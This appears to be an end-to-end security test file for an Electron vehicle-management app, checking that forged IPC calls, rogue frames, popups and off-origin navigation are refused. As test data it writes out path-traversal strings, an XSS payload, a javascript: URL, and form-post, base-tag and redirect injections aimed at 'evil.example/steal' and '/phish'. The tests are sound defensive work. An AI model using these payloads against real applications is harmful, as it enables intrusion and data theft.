// Item 6 end to end: the built renderer in Chromium, wired to the real IPC edge (test/support/
// launch.ts). What this harness can prove and what it cannot:
//   - forged IPC arguments and calls from a subframe go through the real registerIpcHandlers: real;
//   - window.open and navigation are fenced in Electron by setWindowOpenHandler / will-navigate,
//     which the harness does not have. Here the test records what the page attempts and checks each
//     attempt against the same policy functions the Electron adapter calls, plus what the CSP
//     refuses on its own (form posts, <base>, frames). The policies themselves are unit-tested in
//     test/unit/security/navigation-policy.test.ts.
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decideWindowOpen, isNavigationAllowed } from '../../electron/main/app/navigation-policy';
import { launchApp, type LaunchedApp } from '../support/launch';

async function cspViolation(page: Page, act: string): Promise<string> {
  return page.evaluate(async (script) => {
    const seen = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), {
        once: true,
      }),
    );
    new Function(script)();
    return seen;
  }, act);
}

describe('hardening end to end', () => {
  let app: LaunchedApp;
  let origin: string;
  beforeAll(async () => {
    app = await launchApp();
    await app.page.getByRole('heading', { name: 'Vehicle Garage' }).waitFor();
    origin = new URL(app.page.url()).origin;
  });
  afterAll(async () => {
    await app?.close();
  });

  it('answers forged arguments from the page with invalid_input', async () => {
    const results = await app.page.evaluate(async () => {
      const garage = window.garage as unknown as Record<
        string,
        Record<string, (...args: unknown[]) => unknown>
      >;
      return Promise.all([
        garage['updates']!['install']!({ consent: 'yes' }),
        garage['updates']!['install']!({ consent: true, silent: true }),
        garage['profiles']!['create']!({ name: 'x', demo: true }),
        garage['profiles']!['create']!({ name: 'x', baseUrl: 'file:///etc/passwd' }),
        garage['profiles']!['setToken']!('id', 'x'.repeat(20_000)),
        garage['vehicles']!['command']!('5YJ3E1EA7KF317000', 'open_everything'),
        garage['vehicles']!['remove']!('../../etc/passwd'),
        garage['audit']!['list']!({ limit: 1e9 }),
      ]);
    });
    for (const result of results)
      expect(result).toMatchObject({ ok: false, error: { kind: 'invalid_input' } });
  });

  it('answers a call that skips the preload (straight to the channel) the same way', async () => {
    // In the harness the transport is a page-visible binding; in Electron it is ipcRenderer, which a
    // compromised renderer could reach the same way. The main-side checks are what stop it.
    const result = await app.page.evaluate(() =>
      (
        window as unknown as { __garageIpc: (channel: string, args: unknown[]) => Promise<unknown> }
      ).__garageIpc('garage:vehicles.setPlate', [
        '5YJ3E1EA7KF317000',
        { plate: '<img src=x onerror=alert(1)>' },
      ]),
    );
    expect(result).toMatchObject({ ok: false, error: { kind: 'invalid_input' } });
  });

  it('refuses an IPC call from a frame other than the main frame', async () => {
    const { page } = app;
    // The CSP refuses frames (frame-src 'none'); Playwright can still create one through the
    // DevTools protocol, which is the closest a test gets to "a frame that slipped in".
    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.name = 'intruder';
      document.body.append(frame);
    });
    const child = page.frame({ name: 'intruder' });
    expect(child).not.toBeNull();
    await child!.waitForFunction(() => '__garageIpc' in window);
    const result = await child!.evaluate(() =>
      (
        window as unknown as { __garageIpc: (channel: string, args: unknown[]) => Promise<unknown> }
      ).__garageIpc('garage:app.info', []),
    );
    expect(result).toMatchObject({ ok: false, error: { kind: 'untrusted_sender' } });
    await page.evaluate(() => document.querySelector('iframe[name="intruder"]')?.remove());
  });

  it('opens no app window: every window.open the page attempts is one the policy denies', async () => {
    const { page } = app;
    const attempts = [`${origin}/index.html`, 'https://evil.example/', 'javascript:alert(1)', 'about:blank'];
    const before = page.context().pages().length;
    const opened: string[] = [];
    const onPage = (popup: Page) => {
      opened.push(popup.url());
      void popup.close();
    };
    page.context().on('page', onPage);
    // Playwright's Chromium has no popup blocker and no Electron handler, so popups may open here;
    // the point is that the app's handler would refuse each one.
    await page.route(/evil\.example/, (route) => route.abort());
    await page.evaluate((urls) => urls.forEach((url) => window.open(url)), attempts);
    await page.waitForTimeout(300);
    page.context().off('page', onPage);
    await page.unroute(/evil\.example/);
    for (const popup of page.context().pages().slice(before)) await popup.close();

    for (const url of attempts) {
      const decision = decideWindowOpen(url);
      expect(decision.action).toBe('deny');
      expect(decision.openExternally).toBe(url.startsWith('https://') ? url : null);
    }
    expect(opened.every((url) => decideWindowOpen(url).action === 'deny')).toBe(true);
  });

  it('refuses to leave the app origin: the CSP blocks form posts and <base>, the policy the rest', async () => {
    const { page } = app;
    expect(
      await cspViolation(
        page,
        `const f = document.createElement('form'); f.method = 'post'; f.action = 'https://evil.example/steal';
         document.body.append(f); f.submit(); f.remove();`,
      ),
    ).toBe('form-action');
    expect(
      await cspViolation(
        page,
        `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b);`,
      ),
    ).toBe('base-uri');
    await page.evaluate(() => document.querySelector('base')?.remove());

    // A scripted location change: the harness records the navigation request instead of letting it
    // out, and checks it against the will-navigate policy.
    const attempted: string[] = [];
    await page.route(/evil\.example/, (route) => {
      attempted.push(route.request().url());
      return route.abort();
    });
    await page.evaluate(() => {
      location.href = 'https://evil.example/phish';
    });
    await expect.poll(() => attempted.length).toBeGreaterThan(0);
    await page.unroute(/evil\.example/);
    expect(attempted.map((url) => isNavigationAllowed(url, [origin]))).toEqual(attempted.map(() => false));
    expect(isNavigationAllowed(`${origin}/index.html`, [origin])).toBe(true);
  });
});
